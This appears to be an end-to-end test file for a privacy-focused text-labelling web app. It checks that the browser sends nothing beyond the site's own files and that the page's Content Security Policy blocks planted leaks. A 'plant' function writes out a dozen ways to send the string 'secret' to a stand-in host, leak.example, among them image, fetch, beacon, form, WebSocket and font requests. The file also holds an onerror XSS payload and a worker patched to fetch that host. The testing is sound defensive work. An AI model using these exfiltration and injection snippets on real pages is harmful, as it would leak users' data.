// Nothing leaves: all that a Chromium sends goes through a proxy here, whoever sends it; the same test finds leaks that are
// planted, and the page's policy stops them.

import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';

import { npy } from './embeddings.mjs';
import { startModel } from './model.mjs';
import { SERVICE_WORKER, changed, listIn, siteFiles, startHost, startProxy, stored } from './site.mjs';
import {
  LONG, PAGE, addLabels, choose, download, dropEmbeddings, ended, folder, keepPicture, labelOne, launch, openPage, picks, select,
  set, unfold,
} from './tools.mjs';

const LEAK = 'http://leak.example';
const N = 40;
const TEXTS = Array.from({ length: N }, (_, n) => `${['The card is lost', 'A recipe for soup', 'The probe sent a picture', 'When to sow'][n % 4]}, said ${n}`);
const CSV = join(folder('e2e'), 'trust.csv');
const LATER = join(folder('e2e'), 'trust-later.csv');
writeFileSync(CSV, ['text', ...TEXTS.map((text) => `"${text}"`)].join('\n'));
writeFileSync(LATER, ['text', ...TEXTS.map((text) => `"${text}, later"`)].join('\n'));

let files;
before(async () => { files = await siteFiles(); });

// Chromium asks these of itself, whatever page is open: for updates, for a signed-in person, and, by a hash of their names,
// what the fields of a form may mean. That none of the page's own requests goes there either is what `foreign` tells, which
// gathers those of the page, its workers and its service worker.
const CHROMIUMS_OWN = ['accounts.google.com', 'update.googleapis.com', 'content-autofill.googleapis.com', 'clients2.google.com'];

/** What a session asked that is no file of the site at `address`. */
function leaks(seen, address) {
  const listed = new Set([SERVICE_WORKER, '', ...files.keys()]);
  const isListed = (url) => url.startsWith(address) && listed.has(url.slice(address.length));
  return seen.filter((url) => !isListed(url) && !CHROMIUMS_OWN.includes(new URL(url).hostname));
}

/** A test with a host that sends no headers, or the real one, a proxy that sees everything, and a page. */
function watched(name, body, { real = false, prepare = (site) => site, ...options } = {}) {
  test(`trust: ${name}`, { timeout: LONG }, async () => {
    const host = real ? { address: PAGE, stop() {} } : await startHost(prepare(files));
    const proxy = await startProxy(new URL(host.address).origin);
    const browser = await launch(proxy.args);
    try {
      const opened = await openPage(browser, { address: host.address, serviceWorkers: 'allow', ...options });
      try {
        // What leaves shall reach the proxy.
        await opened.context.unrouteAll();
        await body({ ...opened, host, proxy });
        assert.deepEqual(opened.problems, []);
      } catch (error) {
        await keepPicture(opened.page, `trust ${name}`);
        throw error;
      }
    } finally {
      await browser.close();
      proxy.stop();
      host.stop();
    }
  });
}

/** Opens a file, embeds, selects, labels one by key, and gives what is exported. */
async function session(page, file) {
  await choose(page, [file]);
  await set(page, 'budget', 6);
  await select(page);
  await labelOne(page, 'money');
  await unfold(page);
  return download(page, '#export-csv');
}

for (const real of [true, false]) {
  const whose = real ? 'a host that sends the headers' : 'a host that sends none';
  watched(`in a whole session nothing is asked but files of the site, from ${whose}`, async ({ page, host, proxy, foreign }) => {
    await stored(page);
    await session(page, CSV);
    const rows = await picks(page);
    // Without a network nothing is missed.
    proxy.cut = true;
    const before = proxy.seen.length;
    await page.reload();
    await page.waitForSelector('.pick[data-label=money]');
    assert.deepEqual(await picks(page), rows);
    await page.click('#new-project');
    await session(page, LATER);
    assert.deepEqual([leaks(proxy.seen, host.address), foreign], [[], []]);
    const asked = proxy.seen.slice(before).filter((url) => url.startsWith(host.address) && !url.endsWith(SERVICE_WORKER));
    assert.deepEqual(asked, [], 'nothing is asked any more, but whether there is a newer version');
    // What the page counts is what was sent, and more: what came out of the browser's own store.
    await page.click('#network');
    await page.waitForSelector('#network-dialog[open]');
    await page.waitForSelector('#network-dialog #origins li');
    assert.match(await page.innerText('#went-elsewhere'), /^None went anywhere else/);
    assert.equal(await page.locator('#refused').count(), 0, 'the page trips over its own policy nowhere');
    await page.waitForFunction(() => /works without a network/.test(document.querySelector('#offline').innerText));
  }, { real });
}

/** Every way out that a page has which the proxy can see; each to a path of its own. */
function plant(leak) {
  const text = 'secret';
  const tries = {
    image: () => { new Image().src = `${leak}/image?${text}`; },
    fetch: () => fetch(`${leak}/fetch`, { mode: 'no-cors', method: 'POST', body: text }),
    beacon: () => navigator.sendBeacon(`${leak}/beacon`, text),
    xhr: () => { const request = new XMLHttpRequest(); request.open('POST', `${leak}/xhr`); request.send(text); },
    socket: () => new WebSocket(`${leak.replace('http', 'ws')}/socket`),
    events: () => new EventSource(`${leak}/events`),
    style: () => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = `${leak}/style?${text}`; document.head.append(link); },
    prefetch: () => { const link = document.createElement('link'); link.rel = 'prefetch'; link.href = `${leak}/prefetch?${text}`; document.head.append(link); },
    font: () => new FontFace('leak', `url(${leak}/font?${text})`).load().catch(() => {}),
    video: () => { const video = document.createElement('video'); video.src = `${leak}/video?${text}`; document.body.append(video); },
    frame: () => { const frame = document.createElement('iframe'); frame.src = `${leak}/frame?${text}`; document.body.append(frame); },
    form: () => {
      const [form, frame] = [document.createElement('form'), document.createElement('iframe')];
      Object.assign(frame, { name: 'to' });
      Object.assign(form, { action: `${leak}/form`, method: 'post', target: 'to' });
      document.body.append(frame, form);
      form.submit();
    },
    module: () => import(`${leak}/module`),
  };
  for (const go of Object.values(tries)) {
    try { Promise.resolve(go()).catch(() => {}); } catch { /* Refused at once. */ }
  }
  return Object.keys(tries);
}

const inWorker = (site) => changed(site, 'worker-loader.js', (source) => {
  const begun = 'tellRequests(requests);';
  assert.ok(source.includes(begun));
  return source.replace(begun, `${begun} fetch('${LEAK}/worker', { mode: 'no-cors' }).catch(() => {});`);
});
const arrived = (proxy) => [...new Set(proxy.seen.filter((url) => url.startsWith(LEAK)).map((url) => new URL(url).pathname.slice(1)))].sort();

watched('a planted leak is found where the policy is off', async ({ page, host, proxy, foreign }) => {
  const ways = await page.evaluate(plant, LEAK);
  for (let look = 0; look < 100 && arrived(proxy).length < ways.length - 1; look += 1) await page.waitForTimeout(100);
  assert.ok(foreign.length > 0);
  for (const way of ['image', 'fetch', 'beacon', 'xhr', 'style', 'frame', 'form', 'video', 'font']) assert.ok(arrived(proxy).includes(way), `${way}: ${arrived(proxy)}`);
  assert.throws(() => assert.deepEqual(leaks(proxy.seen, host.address), []), 'the same check as of the session');
  await page.waitForFunction(() => Number(document.querySelector('#network-count').dataset.elsewhere) > 0);
  assert.match(await page.innerText('#privacy'), /Something went elsewhere/);
}, { bypassCSP: true, prepare: (site) => withoutTrustedTypes(site), serviceWorkers: 'block' });

/** Without what `start.js` refuses. */
function withoutTrustedTypes(site) {
  return changed(site, 'index.html', (html) => html.replace(/<meta http-equiv[^>]*>/, ''));
}

for (const real of [true, false]) {
  const whose = real ? 'the headers' : 'the page alone';
  watched(`a planted leak is stopped by the policy of ${whose}`, async ({ page, host, proxy }) => {
    await page.evaluate(plant, LEAK);
    await page.waitForTimeout(2000);
    assert.deepEqual(arrived(proxy), []);
    assert.deepEqual(leaks(proxy.seen, host.address), []);
    await page.click('#network');
    await page.waitForSelector('#network-dialog[open]');
    const refused = await page.innerText('#refused');
    for (const way of ['image', 'fetch', 'beacon', 'xhr', 'style', 'form', 'font']) assert.ok(refused.includes(`${LEAK}/${way}`), `${way}: ${refused}`);
  }, { real, serviceWorkers: 'block' });
}

watched('a leak in a worker is stopped on the first visit to a host that sends no headers', async ({ page, proxy }) => {
  await session(page, CSV);
  assert.deepEqual(arrived(proxy), []);
  await page.click('#network');
    await page.waitForSelector('#network-dialog[open]');
  assert.match(await page.innerText('#refused'), /leak\.example\/worker/);
}, { prepare: inWorker });

watched('without the service worker the same leak in a worker is found', async ({ page, proxy }) => {
  await session(page, CSV);
  assert.deepEqual(arrived(proxy), ['worker']);
}, { prepare: inWorker, serviceWorkers: 'block' });

watched('no string becomes code, and no HTML that acts', async ({ page }) => {
  const tried = await page.evaluate(() => {
    const refused = (go) => { try { go(); return false; } catch (error) { return error.name; } };
    const inline = document.createElement('script');
    inline.append('window.ran = "inline"');
    const attribute = document.createElement('div');
    document.body.append(attribute);
    return {
      html: refused(() => { document.createElement('div').innerHTML = '<img src=x onerror="window.ran = 1">'; }),
      script: refused(() => { document.createElement('script').src = 'https://leak.example/x.js'; }),
      worker: refused(() => new Worker('data:text/javascript,1')),
      blob: refused(() => new Worker(URL.createObjectURL(new Blob(['1'])))),
      text: refused(() => { document.body.append(inline); }),
      click: refused(() => { attribute.setAttribute('onclick', 'window.ran = "attribute"'); attribute.click(); }),
      policy: refused(() => trustedTypes.createPolicy('mine', {})),
      plain: refused(() => { document.createElement('div').innerHTML = '<b>text</b>'; }),
      ran: window.ran,
      cookies: document.cookie,
    };
  });
  const { html, script, worker, blob, policy, plain, ran, cookies } = tried;
  assert.deepEqual([html, script, worker, blob, policy], Array(5).fill('TypeError'));
  assert.deepEqual([plain, ran, cookies], [false, undefined, '']);
});

watched('asking a language model opens one way, to it alone, and closes it', async ({ page, proxy, permit }) => {
  const [model, other] = [await startModel(), await startModel()];
  const sentTo = ({ origin }) => proxy.seen.filter((url) => url.startsWith(origin)).length;
  /** Sends from the page, or from the document that may ask a language model. */
  const send = (to, from) => page.evaluate(([address, from]) => {
    const window = from === 'frame' ? document.querySelector('iframe').contentWindow : globalThis;
    return window.fetch(address, { method: 'POST', body: '{"messages":[]}' }).then(() => 'sent', (error) => error.name);
  }, [`${to.origin}/v1/x`, from]);
  try {
    for (const { origin } of [model, other]) { permit(origin); proxy.open.add(origin); }
    await choose(page, [CSV]);
    await dropEmbeddings(page, npy(N, 4));
    await unfold(page);
    await page.selectOption('#method', 'vote-k');
    await set(page, 'budget', 14);
    await page.click('#pick-examples');
    await ended(page);
    await addLabels(page, 'card');
    for (let n = 1; n <= 10; n += 1) {
      await page.keyboard.press('1');
      await page.waitForFunction((n) => Number(document.querySelector('#labeled-count').dataset.labeled) === n, n);
    }
    await set(page, 'endpoint', `${model.origin}/v1`);
    await set(page, 'llm', 'tiny');
    model.delay = 200;
    assert.equal(await send(model), 'TypeError', 'the page itself can ask nobody');
    assert.equal(await page.locator('iframe').count(), 0);
    assert.deepEqual([model, other].map(sentTo), [0, 0]);
    await page.click('#ask');
    await page.click('#answer-yes');
    await page.waitForSelector('#asking');
    await page.waitForSelector('iframe', { state: 'attached' });
    assert.equal(await send(model), 'TypeError', 'nor while the way is open');
    assert.equal(await send(other, 'frame'), 'TypeError', 'which leads to the language model alone');
    assert.equal(sentTo(other), 0);
    await page.waitForSelector('#confidences-given');
    assert.equal(await page.locator('iframe').count(), 0, 'closed again');
    assert.equal(model.requests.length, N);
    const [elsewhere] = await page.$$eval('#network-count', ([count]) => [Number(count.dataset.elsewhere)]);
    assert.equal(elsewhere, N, 'the page counts what it sent');
  } finally {
    model.stop();
    other.stop();
  }
}, { real: true });

test('trust: what the headers say', async () => {
  const expected = {
    'cross-origin-opener-policy': 'same-origin', 'cross-origin-embedder-policy': 'require-corp', 'referrer-policy': 'no-referrer',
    'x-content-type-options': 'nosniff', 'set-cookie': null,
  };
  const meta = String(files.get('index.html')).match(/http-equiv="Content-Security-Policy" content="([^"]*)"/)[1];
  assert.match(meta, /^default-src 'none'; script-src 'self' 'wasm-unsafe-eval';/);
  assert.match(meta, /connect-src 'self';/);
  assert.doesNotMatch(meta, /unsafe-inline|'unsafe-eval'|https?:|\*/);
  for (const path of ['', 'app.js', 'worker.js', 'worker-loader.js', SERVICE_WORKER]) {
    const { headers, status } = await fetch(new URL(path, PAGE));
    if (status === 404) continue;
    for (const [name, value] of Object.entries(expected)) assert.equal(headers.get(name), value, `${path}: ${name}`);
    assert.equal(headers.get('content-security-policy'), `${meta}; frame-ancestors 'self'`);
    assert.match(headers.get('permissions-policy'), /camera=\(\).*microphone=\(\)/);
  }
});
